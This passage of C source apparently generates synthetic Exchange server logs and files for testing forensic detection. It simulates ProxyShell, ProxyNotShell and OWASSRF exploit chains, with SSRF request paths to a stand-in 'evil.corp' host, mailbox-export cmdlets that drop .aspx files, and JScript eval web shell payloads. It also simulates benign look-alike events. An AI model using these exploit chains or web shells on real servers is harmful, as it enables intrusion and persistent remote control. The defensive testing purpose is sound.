    }
    tok[n++] = 'L';
    tok[n++] = (uint8_t)strlen(u->upn);
    memcpy(tok + n, u->upn, strlen(u->upn));
    n += strlen(u->upn);
    tok[n++] = 'U';
    tok[n++] = (uint8_t)strlen(u->sid);
    memcpy(tok + n, u->sid, strlen(u->sid));
    n += strlen(u->sid);
    static const uint8_t groups[] = {'G', 1,   0,   0,   0,   7,   0,   0,   0,   12, 'S', '-', '1', '-',
                                     '5', '-', '3', '2', '-', '5', '4', '4', 'E', 0,  0,   0,   0};
    memcpy(tok + n, groups, sizeof groups);
    n += sizeof groups;
    char b64[800];
    base64(tok, n, b64);
    /* URL-safe in a query: '+' '/' '=' percent-encoded as the exploits send it */
    char out[1200];
    size_t o = 0;
    for (const char *p = b64; *p && o + 4 < sizeof out; p++) {
        if (*p == '+' || *p == '/' || *p == '=')
            o += (size_t)snprintf(out + o, sizeof out - o, "%%%02X", (unsigned)*p);
        else
            out[o++] = *p;
    }
    out[o] = 0;
    return mk_keep(out);
}

static void plan_proxyshell(sctx *s)
{
    const char *ip = "203.0.113.217";
    const char *ua = "python-requests/2.26.0";
    const mk_user *adm = &mk_users[0];
    int64_t t0 = mk_time_make(2021, 8, 20, 3, 14, 7, 0);
    const char *email = "Email=autodiscover/autodiscover.json%3F@evil.corp";
    const char *cat = rps_cat(adm);
    struct step {
        int64_t dt;
        const char *method, *target, *be_stem, *be_query;
    } steps[] = {
        {-41377, "GET", "mapi/nspi/?&", "/mapi/nspi/", ""}, /* the check before the chain (nuclei/Metasploit) */
        {0, "POST", "autodiscover/autodiscover.xml?&", "/autodiscover/autodiscover.xml", ""},
        {2130, "POST", "mapi/emsmdb/?&", "/mapi/emsmdb/", ""},
        {5044, "POST", "EWS/exchange.asmx?&", "/EWS/exchange.asmx", ""},
        {9876, "POST", NULL, "/powershell", NULL},
        {12012, "POST", NULL, "/powershell", NULL},
        {30418, "POST", NULL, "/powershell", NULL},
        {47230, "POST", NULL, "/powershell", NULL},
        {95112, "POST", NULL, "/powershell", NULL},
        {140370, "POST", NULL, "/powershell", NULL},
    };
    for (size_t i = 0; i < MK_LEN(steps); i++) {
        int64_t t = t0 + steps[i].dt;
        bool fixed = fixed_at(s, t);
        bool ps = steps[i].target == NULL; /* the /powershell requests carry the X-Rps-CAT token */
        const char *target = ps ? mk_keepf("powershell/?X-Rps-CAT=%s&", cat) : steps[i].target;
        const char *query = mk_keepf("@evil.corp/%s%s", target, email);
        int status = fixed ? (ps || strstr(target, "mapi") ? 401 : 400) : 200;
        mk_req *r = atk(s, t, MK_P_AUTODISCOVER, MK_R_HP | MK_R_FE | (fixed ? 0 : MK_R_BE), steps[i].method,
                        "/autodiscover/autodiscover.json", query, ua, ip, status);
        r->anchor = "";
        r->be_stem = steps[i].be_stem;
        r->be_query = ps ? mk_keepf("X-Rps-CAT=%s", cat) : steps[i].be_query;
        r->be_user = ps ? adm->dom_user : "NT AUTHORITY\\SYSTEM";
        r->url_host = MK_PUBLIC_HOST;
        r->expect[MK_T_FE] = fixed ? (status == 401 ? &E_34473_TRY : &C_34473) : &E_34473_OK;
        r->expect[MK_T_HP] = fixed ? &C_34473 : &C_34473_OK;
        r->expect[MK_T_BE] = &C_34473_OK;
        if (fixed)
            return; /* patched: the chain fails at the first request after the fix */
    }

    /* The mailbox export writes the PST over HTTP-reachable aspnet_client. */
    char name1[12], name2[17];
    random_name(s, name1, 10, "0123456789");
    random_name(s, name2, 17, "abcdefghijklmnopqrstuvwxyz");
    const char *key = mk_keepf("k%u", (unsigned)mk_rng_below(&s->rng, 90000) + 10000);
    cmdlet(s, t0 + 30418 + 350, "New-ManagementRoleAssignment",
           mk_keepf("-Name \"Mailbox Import Export_%s\" -Role \"Mailbox Import Export\" -User \"%s\"", name2, adm->upn),
           adm, false, &C_PROXYSHELL_EVT, NULL);
    cmdlet(s, t0 + 47230 + 420, "New-MailboxExportRequest",
           mk_keepf("-IncludeFolders \"#Drafts#\" -Mailbox \"%s\" -ContentFilter \"Subject -eq '%s'\" -FilePath "
                    "\"\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\%s.aspx\"",
                    adm->upn, name2, name1),
           adm, false, &E_31207, NULL);
    cmdlet(s, t0 + 95112 + 510, "Remove-MailboxExportRequest",
           mk_keepf("-Identity \"%s\\MailboxExport\" -Confirm \"False\"", adm->upn), adm, false, &C_PROXYSHELL_EVT,
           NULL);
    char pst_payload[256];
    snprintf(pst_payload, sizeof pst_payload,
             "<%%@ Page Language=\"Jscript\"%%><%%eval(Request.Item[\"%s\"],\"unsafe\");%%>", key);
    size_t len;
    uint8_t *pst = pst_shell(s, pst_payload, &len);
    char vpath[512];
    snprintf(vpath, sizeof vpath, "C:/inetpub/wwwroot/aspnet_client/%s.aspx", name1);
    int64_t drop1 = t0 + 75000;
    if (pst) {
        mk_plan_file(s->p, vpath, pst, len, drop1, &E_SHELL, NULL);
        free(pst);
    }
    const char *shell1 = mk_keepf("/aspnet_client/%s.aspx", name1);

    /* The certificate-request variant (DER file starting 30 82). */
    char name3[9];
    random_name(s, name3, 9, "abcdefghijklmnopqrstuvwxyz0123456789");
    cmdlet(
        s, t0 + 140370 + 600, "New-ExchangeCertificate",
        mk_keepf("-Server \"%s\" -GenerateRequest \"True\" -SubjectName \"CN=<%%@ Page Language=\"Jscript\"%%>...\" "
                 "-BinaryEncoded \"True\" -RequestFile \"\\\\localhost\\C$\\inetpub\\wwwroot\\aspnet_client\\%s.aspx\"",
                 MK_SERVER, name3),
        adm, false, &C_PROXYSHELL_EVT, NULL);
    char der_payload[256];
    snprintf(der_payload, sizeof der_payload,
             "<%%@ Page Language=\"Jscript\"%%><%%eval(Request.Item[\"%s\"],\"unsafe\");%%>", key);
    uint8_t *d = der_shell(s, der_payload, &len);
    snprintf(vpath, sizeof vpath, "C:/inetpub/wwwroot/aspnet_client/%s.aspx", name3);
    if (d) {
        mk_plan_file(s->p, vpath, d, len, t0 + 141200, &E_SHELL, NULL);
        free(d);
    }
    const char *shell2 = mk_keepf("/aspnet_client/%s.aspx", name3);

    static const int64_t uses[] = {3 * 60000 + 12000, 80 * 60000 + 5000, 26 * MK_HOUR_MS + 17 * 60000,
                                   3 * MK_DAY_MS + 5 * MK_HOUR_MS};
    const char *ua_ff = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:91.0) Gecko/20100101 Firefox/91.0";
    for (size_t i = 0; i < MK_LEN(uses); i++) {
        mk_req *r = atk(s, t0 + uses[i], MK_P_NONE, MK_R_FE, "POST", i == 2 ? shell2 : shell1, "", ua_ff, ip, 200);
        r->expect[MK_T_FE] = &E_SHELL_USE;
    }
}

/* ------------------------------------------------------------ ProxyNotShell */

static void plan_proxynotshell(sctx *s)
{
    const mk_cfg *c = s->c;
    const char *ip = "203.0.113.231";
    const char *ua = "python-requests/2.28.1";
    const mk_user *victim = &mk_users[17];
    int64_t t0 = mk_time_make(2022, 9, 29, 10, 33, 12, 0);
    char bld[24];
    mk_build_short(&c->build, bld, sizeof bld);
    const char *ps_q = mk_keepf("serializationLevel=Full;ExchClientVer=%s;clientApplication=ManagementShell;"
                                "TargetServer=;PSVersion=5.1.17763.592",
                                bld);
    const char *email = "Email=autodiscover/autodiscover.json%3F@evil.corp";
    static const int64_t dts[] = {0, 1840, 3377};
    bool ok = true;
    for (size_t i = 0; i < MK_LEN(dts) && ok; i++) {
        int64_t t = t0 + dts[i];
        bool fixed = fixed_at(s, t);
        mk_req *r = atk(s, t, MK_P_AUTODISCOVER, MK_R_HP | MK_R_FE | (fixed ? 0 : MK_R_BE), "POST",
                        "/autodiscover/autodiscover.json", mk_keepf("@evil.corp/powershell/?%s&%s", ps_q, email), ua,
                        ip, fixed ? 401 : 200);
        r->authenticated = true;
        r->user = victim->dom_user;
        r->auth_type = "Basic";
        r->anchor = mk_keepf("Smtp~%s", victim->upn);
        r->be_stem = "/powershell";
        r->be_query = mk_keepf("%s&%s", ps_q, email);
        r->time_taken = 2210 + (int)i * 113; /* never 401/404/444, which the YARA rule excludes */
        r->expect[MK_T_FE] = fixed ? &E_41040_TRY : &E_41040_OK;
        r->expect[MK_T_HP] = &C_41040;
        r->expect[MK_T_BE] = &C_41082;
        ok = !fixed;
    }
    /* Microsoft's Emergency Mitigation Service adds the rewrite rule the next night. */
    s->p->eems_rewrite = true;
    s->p->eems_ms = mk_time_make(2022, 9, 30, 4, 12, 37, 0);

    /* OWASSRF bypasses the rule in November (CrowdStrike, ioc-hunting.md §1.4). */
    int64_t t1 = mk_time_make(2022, 11, 3, 21, 47, 5, 0);
    static const int64_t dts1[] = {0, 2412, 5120};
    for (size_t i = 0; i < MK_LEN(dts1); i++) {
        int64_t t = t1 + dts1[i];
        bool fixed = fixed_at(s, t);
        mk_req *r = atk(s, t, MK_P_OWA, MK_R_HP | MK_R_FE | (fixed ? 0 : MK_R_BE), "POST",
                        "/owa/mastermailbox%40outlook.com/powershell", "", ua, ip, fixed ? 401 : 200);
        r->authenticated = true;
        r->user = victim->dom_user;
        r->auth_type = "Basic";
        r->anchor = mk_keepf("Smtp~%s", victim->upn);
        r->be_stem = "/powershell";
        r->be_query = "";
        r->be_user = victim->dom_user;
        r->time_taken = 2480 + (int)i * 97;
        r->generic_extra = ";OnEndRequest.End.ContentType=application/soap+xml charset UTF-8;"
                           "S:ServiceCommonMetadata.HttpMethod=POST;";
        r->expect[MK_T_FE] = fixed ? &E_41080_TRY : &E_41080_OK;
        r->expect[MK_T_HP] = &C_41080;
        r->expect[MK_T_BE] = &C_41082;
        if (fixed)
            return;
    }
    char vpath[512];
    snprintf(vpath, sizeof vpath, "%s/FrontEnd/HttpProxy/owa/auth/owafonts.aspx", c->install_v);
    const char *key = mk_keepf("z%u", (unsigned)mk_rng_below(&s->rng, 900000) + 100000);
    const char *shell =
        mk_keepf("<%%@ Page Language=\"Jscript\"%%><%%eval(Request.Item[\"%s\"],\"unsafe\");%%>\r\n", key);
    mk_plan_file(s->p, vpath, shell, strlen(shell), mk_time_make(2022, 11, 3, 21, 52, 40, 0), &E_SHELL, NULL);
    static const struct {
        int mo, d, h, mi, se;
        const char *ua;
    } uses[] = {
        {11, 3, 21, 53, 2, "antSword/v2.1"},
        {11, 5, 2, 11, 45, "antSword/v2.1"},
        {11, 8, 23, 40, 10,
         "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
         "Chrome/106.0.0.0 Safari/537.36"},
    };
    for (size_t i = 0; i < MK_LEN(uses); i++) {
        mk_req *r = atk(s, mk_time_make(2022, uses[i].mo, uses[i].d, uses[i].h, uses[i].mi, uses[i].se, 0), MK_P_NONE,
                        MK_R_FE, "POST", "/owa/auth/owafonts.aspx", "", uses[i].ua, ip, 200);
        r->expect[MK_T_FE] = &E_SHELL_USE;
    }
}

/* ------------------------------------------------------------ scanned only */

static void plan_scanned(sctx *s)
{
    const mk_cfg *c = s->c;
    int64_t days = (c->to_ms - c->from_ms) / MK_DAY_MS;
    if (days < 1)
        days = 1;
    const char *nse_ua = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)";
    const char *msf_ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                         "Chrome/90.0.4430.85 Safari/537.36";
    const char *nuclei_ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                            "Chrome/96.0.4664.45 Safari/537.36";
    for (int wave = 0; wave < 5; wave++) {
        int64_t t = c->from_ms + (days * (wave * 2 + 1) / 10) * MK_DAY_MS + (3 + wave * 4) * MK_HOUR_MS +
                    (int64_t)mk_rng_below(&s->rng, 3000000);
        const char *ip = mk_keepf("192.0.2.%u", 201 + wave * 9);
        bool fixed = fixed_at(s, t);
        switch (wave % 5) {
        case 0:
        case 3: {
            /* Microsoft's NSE (GET) and Metasploit's scanner (POST): /owa/auth/x.js with the localhost cookies. */
            mk_req *r = atk(s, t, MK_P_OWA, MK_R_HP | MK_R_FE, wave ? "POST" : "GET", "/owa/auth/x.js", "",
                            wave ? msf_ua : nse_ua, ip, fixed ? 500 : 200);
            r->auth_type = "FBA";
            r->anchor = "ServerInfo~localhost/ecp/default.flt?";
            r->routing_type = "Server";
            r->routing_hint = "X-AnonResource-Backend-Cookie";
            r->target = "localhost";
            r->be_status = r->status;
            r->time_taken = 31;
            r->expect[MK_T_HP] = fixed ? &E_26855_TRY : &C_26855;
            r->expect[MK_T_FE] = fixed ? &E_26855_TRY : &C_26855;
            break;
        }
        case 1: {
            /* A real ProxyLogon attempt against a patched server. */
            static const char *const tgts[] = {"/autodiscover/autodiscover.xml?#", "/mapi/emsmdb/?#"};
            for (int k = 0; k < 2; k++) {
                mk_req *r = atk(s, t + k * 1400, MK_P_ECP, MK_R_HP | MK_R_FE, "POST", "/ecp/x.js", "",
                                k ? "python-requests/2.25.1" : "ExchangeServicesClient/0.0.0.0", ip, fixed ? 500 : 200);
                r->anchor = mk_keepf("ServerInfo~a]@%s:444%s", MK_SERVER_FQDN, tgts[k]);
                r->routing_type = "Server";
                r->routing_hint = "X-BEResource-Cookie";
                r->error_code = fixed ? "NegotiateSecurityContext" : "";
                r->expect[MK_T_HP] = k && fixed ? &E_26855_TRY : &C_26855;
                r->expect[MK_T_FE] = fixed ? &E_26855_TRY : &C_26855;
            }
            break;
        }
        case 2:
        case 4: {
            /* ProxyShell probes: GossiTheDog's /owa/ (400 when patched), nuclei's and Metasploit's /mapi/nspi. */
            const char *q[3] = {
                "@test.com/owa/?&Email=autodiscover/autodiscover.json%3F@test.com",
                "@test.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@test.com",
                mk_keepf("a=%s@%s.com/mapi/nspi/", "rxdq", "mtyh"),
            };
            for (int k = 0; k < 3; k++) {
                bool nspi = k > 0;
                mk_req *r =
                    atk(s, t + k * 900, MK_P_AUTODISCOVER, MK_R_HP | MK_R_FE, "GET", "/autodiscover/autodiscover.json",
                        q[k], k == 2 ? msf_ua : nuclei_ua, ip, fixed ? (nspi ? 401 : 400) : 302);
                r->expect[MK_T_FE] = fixed && nspi ? &E_34473_TRY : &C_34473;
                r->expect[MK_T_HP] = &C_34473;
                r->time_taken = 12 + k;
            }
            if (wave == 4) {
                const char *cat = rps_cat(&mk_users[0]);
                mk_req *r =
                    atk(s, t + 4000, MK_P_AUTODISCOVER, MK_R_HP | MK_R_FE, "POST", "/autodiscover/autodiscover.json",
                        mk_keepf("@evil.corp/powershell/?X-Rps-CAT=%s&Email=autodiscover/autodiscover.json%%3F@"
                                 "evil.corp",
                                 cat),
                        "python-requests/2.26.0", ip, fixed ? 401 : 200);
                r->expect[MK_T_FE] = fixed ? &E_34473_TRY : &E_34473_OK;
                r->expect[MK_T_HP] = &C_34473;
            }
            break;
        }
        }
    }
}

/* ------------------------------------------------------------ compiled web shell */

static void compiled_files(sctx *s, int64_t when, bool malicious)
{
    char asm8[9], d1[9], d2[9], page[9], hash[9];
    random_name(s, asm8, 9, "abcdefghijklmnopqrstuvwxyz0123456789");
    random_name(s, d1, 9, "0123456789abcdef");
    random_name(s, d2, 9, "0123456789abcdef");
    random_name(s, page, 7, "abcdefghijklmnopqrstuvwxyz");
    random_name(s, hash, 9, "0123456789abcdef");
    const char *vdir = malicious ? "/aspnet_client/system_web" : "/owa/auth";
    const char *file = malicious ? mk_keepf("%s.aspx", page) : "logoff.aspx";
    const char *app = malicious ? "root" : "owa";
    const char *asm_name = mk_keepf("App_Web_%s", asm8);
    const char *dll = mk_keepf("%s.dll", asm_name);
    const char *tilde = malicious ? mk_keepf("~/aspnet_client/system_web/%s", file) : "~/auth/logoff.aspx";
    const char *type =
        mk_keepf("ASP.%s_%s_aspx", malicious ? "aspnet_client_system_web" : "auth", malicious ? page : "logoff");
    const char *ascii_mal[] = {asm_name,
                               dll,
                               "ASP",
                               type,
                               "Page_Load",
                               "Microsoft.JScript",
                               "JScriptEvaluate",
                               "Microsoft.JScript.Vsa",
                               "System.Web",
                               "get_Request",
                               "get_Item",
                               "Eval",
                               "FrameworkInitialize",
                               "__BuildControlTree"};
    const char *ascii_ok[] = {
        asm_name,     dll,           "ASP",      type,         "Microsoft.Exchange.HttpProxy", "Logoff",
        "System.Web", "get_Request", "get_Item", "get_Server", "FrameworkInitialize",          "__BuildControlTree"};
    const char *wide[] = {tilde, malicious ? "unsafe" : "/owa/auth/logon.aspx"};
    size_t len;
    uint8_t *img = mk_pe_dll(malicious ? ascii_mal : ascii_ok, malicious ? MK_LEN(ascii_mal) : MK_LEN(ascii_ok), wide,
                             MK_LEN(wide), 12 * 1024 + mk_rng_below(&s->rng, 4096), (uint32_t)(when / 1000), &len);
    char dir[512], vpath[768];
    snprintf(dir, sizeof dir, "C:/Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/%s/%s/%s", app,
             d1, d2);
    snprintf(vpath, sizeof vpath, "%s/%s", dir, dll);
    if (img) {
        mk_plan_file(s->p, vpath, img, len, when, malicious ? &E_SHELL : NULL,
                     malicious ? NULL : "compiled Exchange page in Temporary ASP.NET Files (no JScriptEvaluate)");
        free(img);
    }
    /* The build manager's record of it (KAPE's ExchangeCve-2021-26855 target collects *.compiled). */
    const char *compiled = mk_keepf("<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n<preserve resultType=\"3\" "
                                    "virtualPath=\"%s/%s\" hash=\"%s\" filehash=\"%s%s\" flags=\"110000\" "
                                    "assembly=\"%s\" type=\"%s\">\r\n    <filedeps>\r\n        <filedep name=\"%s/%s\" "
                                    "/>\r\n    </filedeps>\r\n</preserve>\r\n",
                                    vdir, file, hash, d1, d2, asm_name, type, vdir, file);
    snprintf(vpath, sizeof vpath, "%s/%s.%s.compiled", dir, file, hash);
    mk_plan_file(s->p, vpath, compiled, strlen(compiled), when, malicious ? &C_SHELL_AUX : NULL,
                 malicious ? NULL : "build manifest of a stock Exchange page");
}

static void plan_compiled(sctx *s)
{
    /* Compiled during the ProxyLogon wave, before the surviving logs begin. */
    int64_t when = mk_time_make(2021, 3, 4, 1, 27, 44, 0);
    compiled_files(s, when, true);
    compiled_files(s, s->c->install_ms + 2 * MK_DAY_MS + 9 * MK_HOUR_MS, false);
}

int mk_scenario_plan(const mk_cfg *c, mk_plan *p)
{
    sctx s = {c, p, {{0}}};
    mk_rng_seed(&s.rng, c->seed, 0x7363656e + (uint64_t)c->scenario); /* "scen" */
    switch (c->scenario) {
    case MK_SC_CLEAN: break;
    case MK_SC_SCANNED: plan_scanned(&s); break;
    case MK_SC_PROXYLOGON: plan_proxylogon(&s); break;
    case MK_SC_PROXYSHELL: plan_proxyshell(&s); break;
    case MK_SC_PROXYNOTSHELL: plan_proxynotshell(&s); break;
    case MK_SC_COMPILED: plan_compiled(&s); break;
    default: return -1;
    }
    p->branded_logon = c->scenario == MK_SC_CLEAN || c->scenario == MK_SC_PROXYLOGON || c->scenario == MK_SC_COMPILED;
    return 0;
}

/* ------------------------------------------------------------ benign look-alikes */

static int64_t at_fraction(const mk_cfg *c, int num, int den, int h, int m, int sec)
{
    int64_t days = (c->to_ms - c->from_ms) / MK_DAY_MS;
    int64_t d = days * num / den;
    mk_tm tm;
    mk_time_split(c->from_ms + d * MK_DAY_MS, &tm);
    if (tm.wday == 0)
        d += 1;
    else if (tm.wday == 6)
        d += 2;
    if (d >= days)
        d = days - 1;
    return c->from_ms + d * MK_DAY_MS + h * MK_HOUR_MS + m * 60000LL + sec * 1000LL;
}

void mk_lookalikes_plan(const mk_cfg *c, mk_plan *p)
{
    sctx s = {c, p, {{0}}};
    mk_rng_seed(&s.rng, c->seed, 0x6c6f6f6b); /* "look" */
    const mk_user *adm = &mk_users[1];

    /* An admin sets the OWA external URL in the EAC: DDIService SetObject, Set-*VirtualDirectory without script. */
    int64_t t = at_fraction(c, 2, 10, 9, 12, 4);
    const char *can = canary(&s);
    mk_req *r = mk_plan_req(p);
    r->t = t;
    r->proto = MK_P_ECP;
    r->flags = MK_R_HP | MK_R_FE | MK_R_BE | MK_R_ECP;
    r->authenticated = true;
    r->method = "POST";
    r->stem = "/ecp/DDI/DDIService.svc/SetObject";
    r->query = mk_keepf("msExchEcpCanary=%s&schema=OWAVirtualDirectory", can);
    r->user = adm->dom_user;
    r->ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 "
            "Safari/537.36";
    r->cip = adm->lan_ip;
    r->anchor = mk_keepf("Smtp~%s", adm->upn);
    r->auth_type = "FBA";
    r->routing_type = "Smtp";
    r->routing_hint = "X-BackEndCookie-Cookie";
    r->target = MK_SERVER_FQDN_LC;
    r->status = r->be_status = 200;
    r->time_taken = 412;
    r->req_bytes = 1880;
    r->resp_bytes = 2210;
    mk_rng_guid(&s.rng, r->rid);
    r->ecp_cmd = mk_keepf("Set-OwaVirtualDirectory.ExternalUrl='https://%s/owa'.Identity='%s\\owa (Default Web Site)'",
                          MK_PUBLIC_HOST, MK_SERVER);
    static const char *const note_vdir = "admin changed a virtual directory URL in the EAC (no script)";
    r->benign_note[MK_T_HP] = note_vdir;
    r->benign_note[MK_T_FE] = note_vdir;
    r->benign_note[MK_T_ECP] = note_vdir;
    cmdlet(
        &s, t + 380, "Set-OwaVirtualDirectory",
        mk_keepf("-Identity \"%s\\owa (Default Web Site)\" -ExternalUrl \"https://%s/owa\"", MK_SERVER, MK_PUBLIC_HOST),
        adm, true, NULL, note_vdir);

    /* Remote PowerShell: Set-OabVirtualDirectory with a normal URL, a mailbox export to a file share. */
    t = at_fraction(c, 4, 10, 14, 3, 51);
    cmdlet(
        &s, t, "Set-OabVirtualDirectory",
        mk_keepf("-Identity \"%s\\OAB (Default Web Site)\" -ExternalUrl \"https://%s/OAB\"", MK_SERVER, MK_PUBLIC_HOST),
        adm, false, NULL, "Set-OabVirtualDirectory with a plain https URL");
    t = at_fraction(c, 6, 10, 16, 40, 9);
    const mk_user *leaver = &mk_users[42];
    cmdlet(&s, t, "New-MailboxExportRequest",
           mk_keepf("-Mailbox \"%s\" -FilePath \"\\\\fs01.%s\\PST$\\%s.pst\"", leaver->upn, MK_AD_DOMAIN, leaver->sam),
           adm, false, NULL, "mailbox export of a leaver to a PST on a file share");

    /* OAB generator: a failed download inside ClientAccess\OAB (excluded since CSS-Exchange PR #386). */
    mk_logline *o = mk_plan_oab(p);
    o->t = at_fraction(c, 5, 10, 8, 2, 17);
    o->event_id = "Warning";
    o->text = mk_keepf("Download failed and temporary file '%s\\ClientAccess\\OAB\\Temp\\%s\\oab.xml' needs to be "
                       "removed.",
                       c->install_win, guid_keep(&s));
    o->benign_note = "OAB download failure inside ClientAccess\\OAB";

    /* Application log: a UM error that is not a cast, a Watson report naming InvalidCastException for OWA. */
    mk_event *ev = mk_plan_event(p);
    memset(ev, 0, sizeof *ev);
    ev->t = at_fraction(c, 3, 10, 11, 31, 5);
    ev->channel = MK_CH_APPLICATION;
    ev->provider = "MSExchange Unified Messaging";
    ev->event_id = 1040;
    ev->qualifiers = 49152;
    ev->level = 2;
    ev->task = 1;
    ev->keywords = 0x80000000000000ULL;
    ev->ndata = 2;
    ev->data[0] = "UM worker process";
    ev->data[1] = "An unhandled exception occurred in a UM worker process: System.Net.Sockets.SocketException: An "
                  "existing connection was forcibly closed by the remote host";
    ev->benign_note = "Unified Messaging error without InvalidCastException";
    ev = mk_plan_event(p);
    memset(ev, 0, sizeof *ev);
    ev->t = at_fraction(c, 7, 10, 13, 5, 40);
    ev->channel = MK_CH_APPLICATION;
    ev->provider = "MSExchange Common";
    ev->event_id = 4999;
    ev->qualifiers = 49152;
    ev->level = 2;
    ev->task = 6;
    ev->keywords = 0x80000000000000ULL;
    ev->ndata = 1;
    char bl[24];
    mk_build_long(&c->build, bl, sizeof bl);
    ev->data[0] = mk_keepf("Watson report about to be sent for process id: 10252, with parameters: E12IIS, "
                           "c-RTL-AMD64, %s, w3wp#MSExchangeOWAAppPool, M.Exchange.Clients.Owa2.Server, "
                           "M.E.C.O.S.C.GetOwaUserConfiguration.Execute, System.InvalidCastException, 4f1d, %s. "
                           "ErrorReportingEnabled: False",
                           bl, bl);
    ev->benign_note = "OWA Watson report naming InvalidCastException (not Unified Messaging)";

    if (p->branded_logon) {
        char vdir_build[24], vpath[512];
        snprintf(vdir_build, sizeof vdir_build, "%d.%d.%d", c->build.major, c->build.minor, c->build.build);
        snprintf(vpath, sizeof vpath, "%s/FrontEnd/HttpProxy/owa/auth/logon.aspx", c->install_v);
        char *text = mk_logon_aspx(vdir_build, true);
        /* CRLF like the stock page */
        size_t n = 0;
        for (const char *q = text; *q; q++)
            n += *q == '\n' ? 2 : 1;
        char *crlf = malloc(n + 1), *w = crlf;
        if (crlf) {
            for (const char *q = text; *q; q++) {
                if (*q == '\n')
                    *w++ = '\r';
                *w++ = *q;
            }
            mk_plan_file(p, vpath, crlf, n, c->install_ms + 9 * MK_DAY_MS + 15 * MK_HOUR_MS, NULL,
                         "branded logon.aspx (customer customisation, Inherits Microsoft.Exchange.HttpProxy.Logon)");
            free(crlf);
        }
    }
}
